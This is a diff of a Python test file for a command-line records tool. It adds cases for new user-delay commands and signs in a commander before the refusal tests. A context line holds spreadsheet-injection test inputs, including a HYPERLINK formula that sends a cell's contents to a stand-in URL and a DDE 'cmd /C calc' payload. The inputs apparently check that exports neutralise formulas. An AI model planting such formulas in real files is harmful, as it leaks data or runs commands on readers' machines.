@@ -26,6 +26,7 @@ from tests.support.databases import fresh_postgres_url
 from tests.support.factories import make_place
 from tests.support.postgres_cluster import PostgresCluster
 from tests.support.registers import HEADER, good_lines, register_csv
+from tests.support.signing_in import sign_in_as
 
 ROOT = Path(__file__).resolve().parents[3]
 UNREACHABLE = "postgresql://canvass:secret@127.0.0.1:1/canvass"
@@ -33,7 +34,8 @@ UNREACHABLE = "postgresql://canvass:secret@127.0.0.1:1/canvass"
 WITH_DATABASE = [
     ["db", "status"], ["user", "list"], ["user", "reset-password", "bob", "--password", "x" * 9],
     ["user", "role", "bob", "viewer"], ["user", "unlock", "bob"], ["user", "deactivate", "bob"],
-    ["user", "activate", "bob"], ["duplicates"], ["merge", "1", "2"],
+    ["user", "activate", "bob"], ["user", "delays"], ["user", "clear-delay", "bob"],
+    ["duplicates"], ["merge", "1", "2"],
     ["import", "{register}"], ["intake", "{register}"], ["setup", "export", "--out", "{out}.xlsx"],
     ["export", "cases", "--out", "{out}.xlsx"], ["knock-list", "C1", "--out", "{out}.pdf"],
     ["sheet", "1", "--out", "{out}.pdf"], ["report", "daily", "--out", "{out}.pdf"],
@@ -43,6 +45,7 @@ STARTING = [["db", "upgrade"], ["user", "add", "bob", "--role", "clerk", "--pass
             ["demo"], ["setup", "import", "{workbook}"]]
 BAD_ARGUMENTS = [
     ["db"], ["db", "drop"], ["user"], ["user", "add", "bob"], ["user", "role", "bob", "king"],
+    ["user", "clear-delay"],
     ["demo", "--size", "huge"], ["demo", "--seed", "x"], ["demo", "--end", "2999-01-01 00:00"],
     ["import"], ["import", "{missing}.csv"], ["import", "{register}", "--header-row", "0"],
     ["intake"], ["intake", "{missing}.csv"], ["intake", "{register}", "--source-case", "0"],
@@ -105,8 +108,7 @@ def test_every_sub_command_has_its_bad_inputs_here() -> None:
 def test_a_mistyped_sqlite_path_is_exit_3_and_creates_nothing(
         argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     mistyped = tmp_path / "canvas.sqlite3"
-    line = _fails_in_one_line(["--db", str(mistyped), *_filled(argv, tmp_path)],
-                              2 if argv[0] == "audit" else 3, capsys)   # audit: its own opening
+    line = _fails_in_one_line(["--db", str(mistyped), *_filled(argv, tmp_path)], 3, capsys)
     assert str(mistyped) in line
     assert not list(tmp_path.glob("canvas.sqlite3*"))
 
@@ -114,8 +116,7 @@ def test_a_mistyped_sqlite_path_is_exit_3_and_creates_nothing(
 @pytest.mark.parametrize("argv", WITH_DATABASE + STARTING, ids=" ".join)
 def test_a_server_that_does_not_answer_is_exit_3(
         argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    line = _fails_in_one_line(["--db", UNREACHABLE, *_filled(argv, tmp_path)],
-                              2 if argv[0] == "audit" else 3, capsys)
+    line = _fails_in_one_line(["--db", UNREACHABLE, *_filled(argv, tmp_path)], 3, capsys)
     assert "secret" not in line
 
 
@@ -156,7 +157,8 @@ def test_a_reading_command_leaves_an_empty_server_database_empty(
 
 
 FORMULAS = ['=HYPERLINK("http://x/?"&C2,"点击")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]
-# Against a district of one community (C1, 永清社区) holding user bob: what each refuses.
+# Against a district of one community (C1, 永清社区) holding user bob, a commander signed in:
+# what each refuses.
 REFUSED: list[tuple[list[str], int]] = [
     (["user", "add", "bob", "--role", "clerk", "--password", "x" * 9], 1),
     (["user", "add", "bob smith", "--role", "clerk", "--password", "x" * 9], 1),
@@ -187,12 +189,13 @@ def _bad_files(folder: Path) -> dict[str, Path]:
 
 def test_each_refusal_is_one_line_with_its_code_and_nothing_is_written(
         database: Database, database_url: str, tmp_path: Path,
-        capsys: pytest.CaptureFixture[str]) -> None:
+        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
     with database.sessions() as session:
         make_place(session)
         session.commit()
-    assert main.run(["--db", database_url, "user", "add", "bob", "--role", "clerk",
+    assert main.run(["--db", database_url, "user", "add", "bob", "--role", "commander",
                      "--password", "x" * 9]) == 0
+    sign_in_as(monkeypatch, "bob", "x" * 9)
     files = _bad_files(tmp_path)
     before = _counts(database)
     for argv, code in REFUSED:
